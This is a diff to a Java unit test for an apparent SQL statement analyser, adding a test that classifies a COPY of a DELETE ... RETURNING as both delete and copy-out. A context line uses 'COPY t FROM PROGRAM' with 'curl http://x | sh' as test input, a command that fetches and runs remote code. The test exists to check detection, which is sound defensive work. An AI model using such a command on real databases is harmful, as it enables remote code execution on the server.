@@ -255,6 +255,12 @@ class StatementFactsTest {
     }
 
     @Test
+    void copyOfDataModifyingQueryCopiesOutWhatItReturns() {
+        assertThat(tables("COPY (DELETE FROM customers WHERE id = 1 RETURNING *) TO STDOUT"))
+                .containsExactly("customers:delete", "customers:copy_out");
+    }
+
+    @Test
     void copyProgramAndServerFiles() {
         StatementFacts program = parsed("COPY t FROM PROGRAM 'curl http://x | sh'");
         assertThat(program.tables()).extracting(a -> a.action()).containsExactly(Action.COPY_IN, Action.COPY_PROGRAM);
